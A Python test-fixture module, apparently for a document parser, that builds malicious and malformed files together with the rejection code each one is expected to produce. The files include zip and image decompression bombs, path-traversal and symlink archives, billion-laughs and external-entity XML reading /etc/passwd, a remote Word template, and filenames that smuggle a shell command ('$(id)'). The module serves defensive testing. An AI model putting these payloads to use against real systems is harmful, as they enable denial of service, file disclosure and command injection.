"""Documents and archives that were made to do harm, or look as if: built in code, none of them larger than 10 MiB."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

from PIL import Image
from reportlab.lib.pagesizes import A4
from reportlab.lib.utils import ImageReader
from reportlab.pdfgen.canvas import Canvas

from benchmarks import large

ORDER = large.text(3)
MIB = 2**20


def order(number: int) -> bytes:
    """An order of its own."""
    return ORDER.replace("№ 512".encode(), f"№ {number}".encode())


def zipped(members: Mapping[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def words(length: int) -> str:
    """Text of that many characters that no archive packs a hundredfold."""
    chance = random.Random(5)
    return "".join(chance.choice("абвгдежзиклмнопрст ") for _ in range(length))


def with_sizes(data: bytes, size: int) -> bytes:
    """The archive with another size of each member, unpacked, in its directory."""
    told = bytearray(data)
    at = told.find(b"PK\x01\x02")
    while at >= 0:
        told[at + 24 : at + 28] = struct.pack("<I", size)
        at = told.find(b"PK\x01\x02", at + 4)
    return bytes(told)


def many_members() -> bytes:
    return zipped({f"{number}.txt": b"" for number in range(10_001)}, zipfile.ZIP_STORED)


def in_all() -> bytes:
    """Each member within its limit and hardly packed: together they say that they unpack to 600 MiB."""
    return with_sizes(zipped({f"{number}.bin": random.Random(number).randbytes(MIB) for number in range(10)}), 60 * MIB)


def linked() -> bytes:
    """A member that is a link to a file of the system."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("17.txt")
        link.create_system = 3
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def twice() -> bytes:
    """Two members of one name."""
    data = zipped({"a.txt": order(31), "b.txt": order(32)})
    return data.replace(b"b.txt", b"a.txt")


def encrypted_zip() -> bytes:
    data = bytearray(zipped({"a.txt": ORDER}))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


def word(document: str, prolog: str = "", settings: str = "") -> bytes:
    """The Word file of `benchmarks.large` with `prolog` before its document and `document` as the text of one row."""
    members = {}
    with zipfile.ZipFile(io.BytesIO(large.docx(3))) as archive:
        for name in archive.namelist():
            members[name] = archive.read(name)
    main = members["word/document.xml"].decode()
    body = main.partition("?>")[2] if main.startswith("<?xml") else main
    members["word/document.xml"] = (prolog + body.replace("до 1 января 2024 года", document)).encode()
    if settings:
        members["word/_rels/document.xml.rels"] = settings.encode()
    return zipped(members)


LAUGHS = "<!DOCTYPE d [<!ENTITY a0 'ха'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
)
OUTSIDE = "<!DOCTYPE d [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
TEMPLATE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1"'
    ' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    ' Target="http://127.0.0.1:9/evil.dotm" TargetMode="External"/></Relationships>'
)


def pdf(pages: int = 1, *, size: tuple[float, float] = A4, password: str | None = None) -> bytes:
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=size, invariant=1, encrypt=password)
    for _ in range(pages):
        canvas.drawString(72, 72, "1")
        canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def picture_pdf(size: tuple[float, float]) -> bytes:
    buffer = io.BytesIO()
    canvas = Canvas(buffer, pagesize=size, invariant=1)
    canvas.drawImage(ImageReader(Image.effect_noise((64, 64), 80)), 0, 0, *size)
    canvas.showPage()
    canvas.save()
    return buffer.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def wide_png() -> bytes:
    """A header of 100,000 × 100,000 pixels over a few bytes."""
    head = struct.pack(">IIBBBBB", 100_000, 100_000, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


def looped_tiff() -> bytes:
    """A picture whose list of pages leads back to its first one."""
    buffer = io.BytesIO()
    Image.new("L", (64, 64), 255).save(buffer, "TIFF")
    data = bytearray(buffer.getvalue())
    (first,) = struct.unpack("<I", data[4:8])
    (entries,) = struct.unpack("<H", data[first : first + 2])
    data[first + 2 + 12 * entries : first + 6 + 12 * entries] = struct.pack("<I", first)
    return bytes(data)


Case = tuple[str, Callable[[], bytes], tuple[str, ...], str]
"""Name of the file, what builds it, the codes of all that comes of it («loaded» for an order), and why."""

CASES: list[Case] = [
    ("bomb.zip", lambda: zipped({"a.txt": bytes(20 * MIB)}), ("archive-bomb",), "unpacks to a thousand times its size"),
    ("bomb.docx", lambda: word("0" * 20 * MIB), ("archive-bomb",), "a Word file is an archive too"),
    ("in-all.zip", in_all, ("archive-bomb",), "no member is too large, all together are"),
    ("members.zip", many_members, ("too-many-members",), "10,001 members"),
    ("less.zip", lambda: with_sizes(zipped({"a.txt": order(41)}), 10), ("unreadable",), "the directory tells too small a size"),
    ("more.zip", lambda: with_sizes(zipped({"a.txt": order(42)}), 60_000), ("loaded",), "it tells too large a size: only what is there is read"),
    ("nested.zip", lambda: zipped({"in.zip": zipped({"a.txt": ORDER}), "b.txt": order(43)}), ("archive-nested", "loaded"), "an archive in an archive"),
    ("encrypted.zip", encrypted_zip, ("encrypted",), "asks for a password"),
    ("up.zip", lambda: zipped({"../../up.txt": order(44)}), ("loaded",), "a name that leads out of the folder"),
    ("root.zip", lambda: zipped({"/tmp/prikaz-hostile.txt": order(45)}), ("loaded",), "an absolute name"),
    ("link.zip", linked, ("no-order",), "a link: its target is text, and is not followed"),
    ("twice.zip", twice, ("loaded", "loaded"), "two members of one name are two documents"),
    ("odd.zip", lambda: zipped({"a\nb'\"$(id)`;.txt": order(46)}), ("loaded",), "a name that a shell would run"),
    ("cut.zip", lambda: zipped({"a.txt": ORDER})[:-30], ("unreadable",), "the directory is cut off"),
    ("quote'\"\n$(id)`.txt", lambda: order(47), ("loaded",), "the same for a file"),
    ("laughs.docx", lambda: word("&a9;", LAUGHS), ("unreadable",), "entities that grow to a billion words"),
    ("outside.docx", lambda: word("&x;", OUTSIDE), ("loaded",), "an entity that names a file of the system: it stays empty"),
    ("template.docx", lambda: word("до 2 января 2024 года", settings=TEMPLATE), ("loaded",), "a template somewhere on the web"),
    ("outside.html", lambda: f"{OUTSIDE}{large.html(3).decode()}".replace("до 1 января", "&x; до 1 января").encode(), ("loaded",), "a page with such an entity"),
    ("nested.docx", lambda: large.docx(3, nested=200), ("nested-too-deep",), "200 tables within one another"),
    ("nested.html", lambda: large.html(3, nested=200), ("nested-too-deep",), "the same on a page"),
    ("cell.docx", lambda: large.docx(3, cell=words(5 * MIB // 2)), ("cell-too-long",), "a cell of 5 MB"),
    ("cell.txt", lambda: large.text(3, cell=words(5 * MIB // 2)), ("cell-too-long",), "the same in a text"),
    ("rows.docx", lambda: large.docx(30_000), ("too-many-rows",), "a table of 30,000 rows"),
    ("rows.txt", lambda: large.text(30_000), ("too-many-rows",), "the same in a text"),
    ("brackets.txt", lambda: large.text(3, cell="(" * 200_000), ("loaded",), "what makes careless patterns turn for hours"),
    ("pages.pdf", lambda: pdf(2001), ("too-many-pages",), "2,001 pages"),
    ("cut.pdf", lambda: large.pdf(3, 20)[:2000], ("unreadable",), "cut off after 2,000 bytes"),
    ("encrypted.pdf", lambda: pdf(password="x"), ("encrypted",), "asks for a password"),
    ("wide.pdf", lambda: picture_pdf((14_400, 14_400)), ("too-many-pixels",), "a page of five metres that would have to be drawn"),
    ("wide.png", wide_png, ("too-many-pixels",), "ten thousand million pixels"),
    ("loop.tiff", looped_tiff, ("no-order",), "pages that lead back to the first"),
    ("packed.gz", lambda: b"\x1f\x8b\x08" + bytes(20), ("unsupported-format",), "a packed file that is no archive of ours"),
    ("binary.txt", lambda: random.Random(1).randbytes(10_000), ("binary",), "no text at all"),
    ("empty.txt", lambda: b"", ("empty",), "nothing"),
]  # fmt: skip
